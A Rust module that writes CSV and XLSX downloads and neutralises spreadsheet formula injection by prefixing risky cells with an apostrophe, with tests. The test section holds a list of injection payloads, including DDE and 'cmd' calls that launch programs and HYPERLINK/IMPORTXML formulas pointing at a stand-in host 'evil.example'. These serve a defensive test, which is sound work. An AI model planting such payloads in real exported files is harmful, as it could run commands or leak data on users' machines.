//! Tables as files for a spreadsheet: CSV and XLSX. Whatever somebody typed stays text and is never a formula.
use std::borrow::Cow;

use axum::http::header;
use axum::response::{IntoResponse, Response};
use rust_xlsxwriter::{Workbook, XlsxError};

use crate::error::{Error, Result};

/// Letters a spreadsheet may take for the beginning of a formula, also in their full-width forms.
const HOSTILE: [char; 13] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{ff1d}', '\u{ff0b}', '\u{ff0d}', '\u{ff20}',
    '\u{2212}', '|',
];

/// A cell that no spreadsheet runs: an apostrophe in front says "this is text".
pub fn safe(cell: &str) -> Cow<'_, str> {
    // Most cells begin with a letter or a digit.
    if cell.as_bytes().first().is_none_or(u8::is_ascii_alphanumeric) {
        return Cow::Borrowed(cell);
    }
    let first = cell.trim_start_matches([' ', '\u{a0}', '\u{3000}']).chars().next();
    let hostile = first.is_some_and(|it| HOSTILE.contains(&it));
    if hostile { Cow::Owned(format!("'{cell}")) } else { Cow::Borrowed(cell) }
}

/// A file being written, row by row.
pub enum Sheet {
    Csv(Box<csv::Writer<Vec<u8>>>),
    Xlsx { book: Box<Workbook>, row: u32 },
}

impl Sheet {
    /// Begins with a mark that tells spreadsheets the text is UTF-8.
    pub fn csv() -> Self {
        let mut build = csv::WriterBuilder::new();
        build.terminator(csv::Terminator::CRLF);
        Self::Csv(Box::new(build.from_writer("\u{feff}".as_bytes().to_vec())))
    }

    pub fn xlsx() -> Self {
        let mut book = Workbook::new();
        book.add_worksheet();
        Self::Xlsx { book: Box::new(book), row: 0 }
    }

    /// Adds a row.
    pub fn row<'c, I: IntoIterator<Item = &'c str>>(&mut self, cells: I) -> Result<()> {
        match self {
            Self::Csv(file) => {
                for cell in cells {
                    file.write_field(safe(cell).as_bytes()).map_err(|it| unwritten(&it))?;
                }
                file.write_record(None::<&[u8]>).map_err(|it| unwritten(&it))
            }
            Self::Xlsx { book, row } => {
                let sheet = book.worksheet_from_index(0).map_err(broken)?;
                for (column, cell) in cells.into_iter().enumerate() {
                    let column = u16::try_from(column).map_err(|_| Error::TooLarge)?;
                    sheet.write_string(*row, column, safe(cell).into_owned()).map_err(broken)?;
                }
                *row += 1;
                Ok(())
            }
        }
    }

    /// The finished file as an answer that the browser saves.
    pub fn answer(self, name: &str) -> Result<Response> {
        let (kind, end, bytes) = match self {
            Self::Csv(file) => {
                let bytes = file.into_inner().map_err(|it| Error::internal(it.to_string()))?;
                ("text/csv; charset=utf-8", "csv", bytes)
            }
            Self::Xlsx { mut book, .. } => {
                let kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
                (kind, "xlsx", book.save_to_buffer().map_err(broken)?)
            }
        };
        let place = format!("attachment; filename=\"{name}.{end}\"");
        let headers = [
            (header::CONTENT_TYPE, kind),
            (header::CONTENT_DISPOSITION, place.as_str()),
            (header::X_CONTENT_TYPE_OPTIONS, "nosniff"),
        ];
        Ok((headers, bytes).into_response())
    }
}

fn unwritten(error: &csv::Error) -> Error {
    Error::internal(error.to_string())
}

/// A spreadsheet holds 1,048,576 rows and no more.
fn broken(error: XlsxError) -> Error {
    match error {
        XlsxError::RowColumnLimitError | XlsxError::MaxStringLengthExceeded => Error::TooLarge,
        other => Error::internal(other.to_string()),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A hundred cells that want to be formulas.
    fn payloads() -> Vec<String> {
        let formulas = [
            "=1+1",
            "=cmd|' /C calc'!A0",
            "=HYPERLINK(\"http://evil.example\",\"x\")",
            "+1+1",
            "-2+3",
            "@SUM(1+1)",
            "=IMPORTXML(\"http://evil.example\",\"//a\")",
            "|calc",
            "=DDE(\"cmd\";\"/C calc\")",
            "=\"a\"&\"b\"",
        ];
        let before = ["", " ", "\t", "\r", "\n", "\u{a0}", "\u{3000}", "\r\n", "  ", " \t"];
        before.iter().flat_map(|it| formulas.map(|formula| format!("{it}{formula}"))).collect()
    }

    #[tokio::test]
    async fn a_hundred_hostile_cells_read_back_as_text() {
        let payloads = payloads();
        assert_eq!(payloads.len(), 100);
        let mut sheet = Sheet::csv();
        for it in &payloads {
            sheet.row([it.as_str(), "plain, \"quoted\""]).unwrap();
        }
        let body = sheet.answer("people").unwrap().into_body();
        let bytes = axum::body::to_bytes(body, usize::MAX).await.unwrap();
        let text = std::str::from_utf8(&bytes).unwrap().trim_start_matches('\u{feff}');
        let mut read = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let rows: Vec<csv::StringRecord> = read.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 100);
        for (row, payload) in rows.iter().zip(&payloads) {
            assert_eq!(&row[0], format!("'{payload}"), "{payload:?}");
            assert_eq!(&row[1], "plain, \"quoted\"");
        }
    }

    #[test]
    fn full_width_signs_are_signs_too() {
        for cell in ["\u{ff1d}1", "\u{ff0b}1", "\u{ff0d}1", "\u{ff20}x", "\u{2212}1"] {
            assert!(safe(cell).starts_with('\''), "{cell}");
        }
        for cell in ["Ana", "12", "", "a=b", "Żółć"] {
            assert_eq!(safe(cell), cell);
        }
    }

    #[test]
    fn a_workbook_holds_texts() {
        let mut sheet = Sheet::xlsx();
        for it in payloads() {
            sheet.row([it.as_str()]).unwrap();
        }
        let answer = sheet.answer("people").unwrap();
        assert_eq!(
            answer.headers()[header::CONTENT_DISPOSITION],
            "attachment; filename=\"people.xlsx\""
        );
    }
}
